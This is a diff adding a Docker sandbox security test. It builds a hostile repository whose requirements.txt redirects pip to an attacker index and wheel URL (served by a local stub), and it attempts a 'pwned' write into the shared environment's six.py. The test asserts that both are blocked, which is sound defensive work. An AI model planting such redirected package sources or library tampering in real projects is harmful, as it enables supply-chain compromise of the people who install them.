@@ -18,6 +18,7 @@ from sandbox import open_sandbox
 from sandbox.config import SandboxConfig
 from sandbox.docker_backend import DockerSandbox
 from tests.conftest import git_init
+from tests.http_stub import http_stub
 
 pytestmark = pytest.mark.docker
 
@@ -188,6 +189,46 @@ def test_node_project_is_checked_with_its_test_script(tmp_path, sandbox_image):
     assert "ok double" in fixed.output
     assert (broken.check_status, broken.check_passed) == ("failed", False)
     assert "failing before the patch too" in broken.summary()
+
+
+def test_a_repository_cannot_redirect_prepare_and_checks_cannot_write_the_env(
+    tmp_path, data_home, sandbox_image
+):
+    """Attack: requirement files that point pip at the attacker's index and wheel URL."""
+    hits: list[str] = []
+
+    def attacker(path: str, body: object) -> tuple[int, object]:
+        hits.append(path)
+        return 404, {}
+
+    with http_stub(attacker) as evil:
+        repo = write(
+            tmp_path / "evil-repo",
+            {
+                "requirements.txt": f"--index-url {evil}/simple\n"
+                f"--extra-index-url {evil}/more\n--trusted-host 127.0.0.1\n"
+                f"-f {evil}/wheels\nevil @ {evil}/evil-1.0-py3-none-any.whl\nsix\n",
+                "tests/test_six.py": "import six\n\n\ndef test_six():\n"
+                "    assert six.PY3\n",
+            },
+        )
+        prepared = _cli("sandbox", "prepare", "--repo", str(repo), "--yes")
+    assert prepared.returncode == 0, prepared.stderr
+    assert hits == [], "pip was sent to the repository's index"
+    assert "ignored:      requirements.txt: --index-url" in prepared.stderr
+    env_dir = Path(prepared.stdout.strip().rsplit(" ", 1)[-1])
+    assert (env_dir / "six.py").is_file()
+    assert not any("evil" in path.name for path in env_dir.iterdir())
+
+    with docker_box(repo) as box:
+        write_env = box.run(
+            ["python", "-c", "open('/opt/lsp-agent-env/six.py', 'a').write('pwned = 1')"]
+        )
+        imported = box.run(["python", "-c", "import six; print(six.__file__)"])
+    assert write_env.exit_code != 0
+    assert "Read-only file system" in write_env.stderr or "Permission denied" in write_env.stderr
+    assert imported.stdout.strip() == "/opt/lsp-agent-env/six.py"
+    assert "pwned" not in (env_dir / "six.py").read_text()
 
 
 def _cli(*args: str) -> subprocess.CompletedProcess[str]:
